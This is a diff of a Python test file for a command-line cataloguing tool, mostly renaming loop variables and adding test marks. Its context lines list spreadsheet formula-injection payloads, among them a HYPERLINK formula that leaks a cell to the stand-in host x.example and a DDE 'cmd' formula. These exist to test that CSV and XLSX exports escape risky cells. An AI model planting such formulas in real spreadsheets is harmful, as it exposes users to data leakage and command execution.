@@ -26,6 +26,8 @@ from indicode.catalogue.records import LearnedLink
 from indicode.catalogue.writes import record_decisions
 from indicode.cli import app
 
+pytestmark = pytest.mark.usefixtures("shared_vector_cache")  # its commands build Linkers of their own
+
 runner = CliRunner()
 FORMULAS = ['=HYPERLINK("http://x.example/?leak="&A1,"y")', "=1+1", "+1+1", "-2+3", "@SUM(A1:A2)",
             "=cmd|' /C calc'!A0", "\t=1+1", "'quoted"]
@@ -33,7 +35,7 @@ FORMULAS = ['=HYPERLINK("http://x.example/?leak="&A1,"y")', "=1+1", "+1+1", "-2+
 
 def _one_error(stderr: str) -> bool:
     """Exactly one `error:` line, no traceback."""
-    return "Traceback" not in stderr and sum(l.startswith("error: ") for l in stderr.splitlines()) == 1
+    return "Traceback" not in stderr and sum(line.startswith("error: ") for line in stderr.splitlines()) == 1
 
 
 def _env(**extra):
@@ -85,7 +87,7 @@ def test_learned_links_written_during_a_build_survive(tmp_path, monkeypatch):
     build([SEED["000"], SEED["004"]], cat)
     assert procs[0].wait(timeout=60) == 0
     got = Catalogue.load(cat)
-    assert {l.text for l in got.learned} == {"先前的决定", "构建期间的决定"}
+    assert {link.text for link in got.learned} == {"先前的决定", "构建期间的决定"}
     assert len(got) == 123  # and the rebuild itself happened
 
 
@@ -146,7 +148,7 @@ def test_writers_wait_their_turn(tmp_catalogue, tmp_path):
     waited = time.monotonic() - t0
     holder.wait()
     assert waited > 0.3  # it did wait for the holder rather than write beside it
-    assert [l.text for l in Catalogue.load(tmp_catalogue).learned] == ["等一等"]
+    assert [link.text for link in Catalogue.load(tmp_catalogue).learned] == ["等一等"]
 
 
 def test_a_learned_link_is_stored_field_by_field(tmp_catalogue):
@@ -427,8 +429,8 @@ def test_a_writer_killed_mid_transaction_is_rolled_back_on_open(tmp_catalogue, t
             "con.execute('PRAGMA cache_size=1')\n"
             "con.execute('BEGIN')\n"
             "for i in range(3000):\n"
-            "    con.execute('INSERT INTO learned (text, level2, code, reviewer, decided_at, source) VALUES (?,?,?,?,?,?)',"
-            " (f't{i}' * 20, '12', '112000272', 'x', 'now', 's'))\n"
+            "    con.execute('INSERT INTO learned (text, level2, code, reviewer, decided_at, source) '"
+            "'VALUES (?,?,?,?,?,?)', (f't{i}' * 20, '12', '112000272', 'x', 'now', 's'))\n"
             "print('ready', flush=True)\n"
             "time.sleep(60)\n")
     p = subprocess.Popen([sys.executable, "-c", code, str(tmp_catalogue)], stdout=subprocess.PIPE, text=True)
@@ -460,6 +462,7 @@ from hypothesis import strategies as st  # noqa: E402
 RISKY_TEXT = st.text(alphabet=st.sampled_from(list("=+-@'\t\r\n ,\"A1中文%|!()") + ["\x00", "\x07"]), max_size=12)
 
 
+@pytest.mark.slow  # 150 generated tables, each written as CSV and XLSX and read back: about 2 s
 @settings(max_examples=150, deadline=None)
 @given(st.lists(st.lists(RISKY_TEXT, min_size=2, max_size=2), min_size=1, max_size=6))
 def test_any_text_round_trips_and_never_runs(tmp_path_factory, cells):
@@ -501,5 +504,5 @@ def test_learn_reads_back_escaped_csv_cells(tmp_catalogue, tmp_path):
     assert "'=按时完成率" in out.read_text(encoding="utf-8-sig")
     r = runner.invoke(app, ["learn", str(out), "-c", str(tmp_catalogue)])
     assert r.exit_code == 0, r.output
-    assert {(l.text, l.code) for l in Catalogue.load(tmp_catalogue).learned} == {
+    assert {(link.text, link.code) for link in Catalogue.load(tmp_catalogue).learned} == {
         ("=按时完成率", "113000297"), ("-年度目标完成率", "NIL"), ("'引号开头", "NIL")}
